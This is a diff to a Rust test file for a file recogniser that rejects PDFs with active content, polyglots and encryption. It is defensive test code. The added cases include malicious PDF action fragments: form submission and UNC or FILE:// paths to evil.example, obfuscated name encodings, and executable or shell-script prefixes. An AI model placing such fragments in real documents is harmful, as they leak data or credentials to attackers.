@@ -57,7 +57,8 @@ fn everything_else_is_not_whatever_it_is_called() {
         b"GIF89a",
         b"II*\x00",
         b"hello, this is text",
-        b"\n%PDF-1.7",
+        // A photo of an iPhone: what its container is called stands behind the length.
+        b"\0\0\0\x24ftypheic\0\0\0\0mif1heic",
     ] {
         assert_eq!(recognise(other), Err(Rejection::UnknownType), "{other:?}");
     }
@@ -71,13 +72,45 @@ fn a_pdf_runs_and_hides_nothing() {
         ("/A << /S /J#61vaScript /JS (app.alert(1)) >>", Rejection::ActiveContent),
         ("/OpenAction << /S/Launch /F (cmd.exe) >>", Rejection::ActiveContent),
         ("/Names << /EmbeddedFiles 4 0 R >>", Rejection::ActiveContent),
+        ("/A << /S /SubmitForm /F (https://evil.example) >>", Rejection::ActiveContent),
+        ("/A << /S /Submit#46orm /F 7 0 R >>", Rejection::ActiveContent),
+        ("/AA << /O << /S /ImportData /F (x.fdf) >> >>", Rejection::ActiveContent),
+        ("/AcroForm << /XFA [(template) 4 0 R] >>", Rejection::ActiveContent),
+        ("/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>", Rejection::ActiveContent),
+        ("/A << /S /GoToE /T 4 0 R >>", Rejection::ActiveContent),
+        (r"/F (\\\\evil.example\\share\\a.pdf)", Rejection::ActiveContent),
+        ("/F <5C5C6576696C5C61>", Rejection::ActiveContent),
+        ("/A << /S /URI /URI (FILE://evil.example/share) >>", Rejection::ActiveContent),
         ("/Encrypt 5 0 R", Rejection::Protected),
         ("/#45ncrypt 5 0 R", Rejection::Protected),
         ("<script>alert(1)</script>", Rejection::TwoInOne),
     ] {
         assert_eq!(recognise(&pdf(inside)), Err(expected), "{inside}");
     }
+    assert_eq!(
+        recognise(&pdf("/A << /S /URI /URI (https://customer.example) >> /XFAText 1 /GoTo 1")),
+        Ok(Kind::Pdf)
+    );
     assert_eq!(recognise(&pdf("/EncryptMetadata true /LaunchPad 1 /Java 1")), Ok(Kind::Pdf));
+}
+
+/// As readers do, but nothing that somebody could take for something else.
+#[test]
+fn a_pdf_may_begin_after_nothing_but_a_mark_and_empty_lines() {
+    let after = |before: &[u8]| recognise(&[before, &pdf("")].concat());
+    for before in [&b"\xef\xbb\xbf"[..], b"\n", b"\xef\xbb\xbf\r\n \t", &[0; 1019]] {
+        assert_eq!(after(before), Ok(Kind::Pdf), "{before:?}");
+    }
+    for before in
+        [&b"#!/bin/sh\n"[..], b"MZ\x90\0", b"GIF89a", b"PK\x03\x04", b"\x1b%-12345X@PJL\r\n", b"From: x\r\n"]
+    {
+        assert_eq!(after(before), Err(Rejection::TwoInOne), "{before:?}");
+    }
+    assert_eq!(after(&[b' '; 1020]), Err(Rejection::UnknownType), "readers look no further");
+    assert_eq!(after(b"<script>alert(1)</script>"), Err(Rejection::TwoInOne));
+    // Still looked at as a whole.
+    let hides = [b"\xef\xbb\xbf".as_slice(), &pdf("/S /JavaScript")].concat();
+    assert_eq!(recognise(&hides), Err(Rejection::ActiveContent));
 }
 
 #[test]
